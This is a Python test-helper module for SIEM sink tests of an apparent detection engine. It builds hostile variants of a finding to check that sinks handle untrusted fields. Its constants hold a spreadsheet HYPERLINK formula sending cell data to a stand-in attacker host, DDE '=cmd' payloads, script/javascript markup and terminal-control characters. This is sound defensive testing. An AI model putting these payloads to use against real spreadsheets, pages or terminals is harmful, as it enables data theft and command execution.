"""Helpers for the SIEM sink tests: a real finding from the engine, hostile variants, and a sink context."""

from __future__ import annotations

import copy
import random
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import orjson
import requests

from chainwatch.app.cli import main as chainwatch_main
from chainwatch.sinks.base import Delivery, InMemoryTicketMap, RetryPolicy, SinkContext

ROOT = Path(__file__).resolve().parents[3]
EVENTS = ROOT / "events"

#: What an attacker can put in a path, a command line or an app name.
FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
MARKUP = "<script>alert(1)</script>[x](javascript:alert(1)){panel}*bold*"
CONTROL = "evil\x1b[31mRED\x00\r\nInjected: line\u202egnp.exe"
HUGE = "A" * 1_000_000


def detect_findings(tmp_dir: Path) -> list[dict[str, Any]]:
    """Run ``chainwatch detect`` on the bundled samples and return its OCSF findings."""
    out = tmp_dir / "findings.jsonl"
    assert chainwatch_main(["detect", str(EVENTS), "--all", "--out", str(out), "--no-progress"]) == 0
    findings = [orjson.loads(line) for line in out.read_bytes().splitlines() if line.strip()]
    assert findings, "the bundled samples produce at least one finding"
    return findings


def alert_with_egress(findings: list[dict[str, Any]]) -> dict[str, Any]:
    """The first alerting finding with an execution process and egress (the richest shape to project)."""
    for doc in findings:
        if doc.get("is_alert") and doc["unmapped"]["chainwatch"]["egress"] and stage_process(doc, 3):
            return doc
    raise AssertionError("the bundled samples have no alert with egress")


def stage_process(doc: Mapping[str, Any], stage: int) -> dict[str, Any] | None:
    """The OCSF process of the evidence for ``stage``."""
    for evidence in doc.get("evidences", []):
        if evidence.get("data", {}).get("stage") == stage and evidence.get("process"):
            return dict(evidence["process"])
    return None


def variant(document: Mapping[str, Any], finding_id: str) -> dict[str, Any]:
    """The same finding under another id (a second chain, for batches)."""
    doc = copy.deepcopy(dict(document))
    doc["metadata"]["uid"] = finding_id
    doc["finding_info"]["uid"] = finding_id
    return doc


def hostile(document: Mapping[str, Any]) -> dict[str, Any]:
    """The finding with formula, markup and control characters in every attacker-controlled string, and a 1 MB
    command line everywhere a command line appears."""
    doc = copy.deepcopy(dict(document))
    doc["finding_info"]["title"] = FORMULA
    doc["message"] = FORMULA
    doc["device"]["hostname"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    for evidence in doc["evidences"]:
        process = evidence.get("process")
        if process:
            process["cmd_line"] = "-" + HUGE
            process["name"] = MARKUP
            process["path"] = CONTROL
    cw = doc["unmapped"]["chainwatch"]
    for node in cw["process_tree"]:
        node["cmd_line"] = "+" + HUGE
        node["path"] = CONTROL
    cw["files"] = [FORMULA, CONTROL, MARKUP] + [f"/tmp/f{i}" for i in range(500)]
    cw["reasons"] = [FORMULA]
    cw["story"] = "=cmd|'/C calc'!A0\n" + HUGE + "\n" + CONTROL
    for entry in cw["egress"]:
        entry["hostname"] = MARKUP
        entry["ip"] = "not-an-ip<script>"
    cw["quarantine"] = [CONTROL]
    return doc


def deliveries(*docs: Mapping[str, Any], revision: int = 1, canary: bool = False) -> list[Delivery]:
    return [Delivery(str(doc["finding_info"]["uid"]), revision, doc, canary=canary) for doc in docs]


class Sleeps(list[float]):
    """The injected sleep: records each delay instead of waiting."""

    def __call__(self, seconds: float) -> None:
        self.append(seconds)


def make_context(secrets: Mapping[str, Any], *, max_attempts: int = 4, sleeps: Sleeps | None = None,
                 remaining: Callable[[], float] | None = None) -> tuple[SinkContext, Sleeps]:
    """A sink context with a real requests session, a dict of secrets and a recording sleep."""
    recorder = sleeps if sleeps is not None else Sleeps()

    def secret(name: str) -> Any:
        return secrets[name]

    policy = RetryPolicy(max_attempts=max_attempts, base_delay=0.5, max_delay=20.0, sleep=recorder,
                         rng=random.Random(7), remaining=remaining or (lambda: float("inf")))
    context = SinkContext(session=requests.Session(), secret=secret, ticket_map=InMemoryTicketMap(), retry=policy,
                          timeout=5.0)
    return context, recorder
